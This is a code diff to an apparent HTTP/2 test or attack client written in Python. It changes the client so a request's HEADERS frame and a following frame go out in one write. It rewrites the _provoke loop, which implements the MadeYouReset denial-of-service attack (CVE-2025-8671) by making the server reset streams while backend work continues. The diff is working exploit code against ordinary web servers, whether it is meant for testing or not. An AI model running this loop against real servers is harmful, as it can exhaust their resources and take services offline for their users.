@@ -182,13 +182,14 @@ class Client:
     # ---------------------------------------------------------------- sending
 
     def headers(self, path: str, end_stream: bool = True, sid: int | None = None, method: str = "GET",
-                extra=(), authority: str = "localhost") -> int:
+                extra=(), authority: str = "localhost", then: bytes = b"") -> int:
+        """A request's HEADERS (and `then`, frames sent in the same write); its stream id."""
         if sid is None:
             sid = self.next_sid
         self.next_sid = max(self.next_sid, sid + 2)
         block = self.encoder.encode([(":method", method), (":scheme", "https"), (":authority", authority),
                                      (":path", path), *extra])
-        self.send(frame(1, 0x4 | (0x1 if end_stream else 0), sid, block))
+        self.send(frame(1, 0x4 | (0x1 if end_stream else 0), sid, block) + then)
         return sid
 
     def wait(self, done, timeout: float) -> bool:
@@ -348,13 +349,14 @@ def zero_window(c: Client, path: str, n: int = 1) -> int:
 
 
 def _provoke(c: Client, path: str, n: int, bad) -> int:
-    """MadeYouReset (CVE-2025-8671): a request, then a frame that is a stream error on it, so
-    the *server* resets the stream (the request may already be on its way to the backend);
-    in a loop. bad(sid) -> the frame."""
+    """MadeYouReset (CVE-2025-8671): a request, and in the same write a frame that is a stream
+    error on it, so the *server* resets the stream (while the request may be on its way to
+    the backend); in a loop. bad(sid) -> the frame."""
     sent = 0
     for _ in range(n):
-        sid = c.headers(path)
-        if not c.send(bad(sid)):
+        sid = c.next_sid
+        c.headers(path, then=bad(sid))
+        if c.eof or c.broken:
             break
         sent += 1
     return sent
